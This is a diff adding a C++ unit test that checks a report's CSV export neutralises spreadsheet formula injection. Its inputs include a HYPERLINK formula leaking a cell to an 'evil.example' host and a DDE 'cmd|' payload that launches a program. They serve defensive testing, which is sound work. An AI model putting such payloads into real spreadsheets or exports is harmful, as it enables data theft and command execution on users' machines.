@@ -2,6 +2,8 @@
 #include <doctest/doctest.h>
 
 #include <algorithm>
+#include <cctype>
+#include <sstream>
 
 #include "learnwall/report.hpp"
 #include "learnwall/text.hpp"
@@ -215,4 +217,50 @@ TEST_CASE("[Report] an empty event gives zeros, every day, and no division by ze
     CHECK(html.find("No tips yet") != std::string::npos);
     CHECK(html.find("nan") == std::string::npos);
     CHECK(html.find("inf") == std::string::npos);
+}
+
+TEST_CASE("[Report] issue 10 item 10: CSV formula injection is neutralised") {
+    EventBuilder b;
+    b.s.roster.people = {{"Ana Lima", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "ana@social.example", "", "", ""},
+                         {"@SUM(1+1)", "+Sales", "", "", "bad", ""}};
+    b.decide(b.post("mastodon", "ana@social.example", "-2+3+cmd|' /C calc'!A0 Tip: #NLAWWeek", "2026-05-18T08:00:00Z", 5),
+             "approve");
+    b.decide(b.post("x", "bad", "\tTip: tabs first #NLAWWeek", "2026-05-18T09:00:00Z", 3), "approve");
+    b.decide(b.post("mastodon", "out@else.example", "Tip: from outside the roster #NLAWWeek", "2026-05-18T10:00:00Z", 1,
+                    false, "=1+1"),
+             "approve");
+    Report r = build_report(b.s, *parse_rfc3339("2026-05-25T10:00:00Z"));
+    std::string csv = report_csv(r);
+    CAPTURE(csv);
+    // Team names, top tip authors and tip text: each dangerous cell starts with a quote inside quotes.
+    CHECK(csv.find("\nteam,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",") != std::string::npos);
+    CHECK(csv.find("\nteam,\"'+Sales\",") != std::string::npos);
+    CHECK(csv.find("\ntop_tip,Ana Lima,5,\"'-2+3+cmd|' /C calc'!A0 Tip: #NLAWWeek\"\n") != std::string::npos);
+    CHECK(csv.find("\ntop_tip,\"'@SUM(1+1)\",3,\"'\tTip: tabs first #NLAWWeek\"\n") != std::string::npos);
+    CHECK(csv.find("\ntop_tip,\"'=1+1\",1,") != std::string::npos);
+    // No cell of the file (quotes removed) starts with what a spreadsheet would evaluate.
+    std::istringstream lines(csv);
+    std::string line;
+    while (std::getline(lines, line)) {
+        std::vector<std::string> cells(1);
+        bool quoted = false;
+        for (size_t i = 0; i < line.size(); ++i) {
+            char c = line[i];
+            if (c == '"' && quoted && i + 1 < line.size() && line[i + 1] == '"') {
+                cells.back() += '"';
+                ++i;
+            } else if (c == '"') {
+                quoted = !quoted;
+            } else if (c == ',' && !quoted) {
+                cells.emplace_back();
+            } else {
+                cells.back() += c;
+            }
+        }
+        for (const auto& cell : cells)
+            if (!cell.empty() && !(cell.size() > 1 && cell[0] == '-' && std::isdigit(static_cast<unsigned char>(cell[1]))))
+                CHECK_MESSAGE(std::string("=+-@\t\r").find(cell[0]) == std::string::npos, line);
+    }
+    // Numbers stay numbers.
+    CHECK(csv.find("\nparticipants,unique,3,\n") != std::string::npos);
 }
